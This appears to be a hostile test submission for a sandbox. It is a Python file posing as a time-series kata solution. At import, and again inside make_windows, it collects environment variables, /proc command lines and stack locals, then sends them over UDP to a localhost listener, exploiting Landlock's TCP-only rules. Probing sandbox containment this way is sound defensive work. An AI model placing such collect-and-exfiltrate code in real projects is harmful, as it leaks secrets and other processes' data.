"""Attack: what the child can learn (its environment, every command line it can read in /proc,
the seed of each request) sent in a UDP datagram to a listener on this machine: Landlock's
network rules cover TCP only."""

import os
import socket
import sys

KNOWN = {}  # filled in by the self-test: the listener's port among the paths


def what_it_can_learn():
    found = [repr(dict(os.environ))]
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    found.append(handle.read().decode(errors="replace"))
            except OSError:
                pass
    frame = sys._getframe()
    while frame is not None:
        found.append(repr(frame.f_locals.get("request", ""))[:300])
        frame = frame.f_back
    return "\n".join(found)[:60000]


def send(text):
    try:
        channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        channel.sendto(f"kata_hostile_marker {text}".encode(), ("127.0.0.1", int(KNOWN.get("udp_port", 9))))
    except OSError as error:
        return f"refused: {error}"
    return "sent"


send(what_it_can_learn())


def make_windows(series, time_steps):
    raise RuntimeError(f"the datagram was {send(what_it_can_learn())}")


def build_many_to_one(time_steps, features, units=50):
    return None
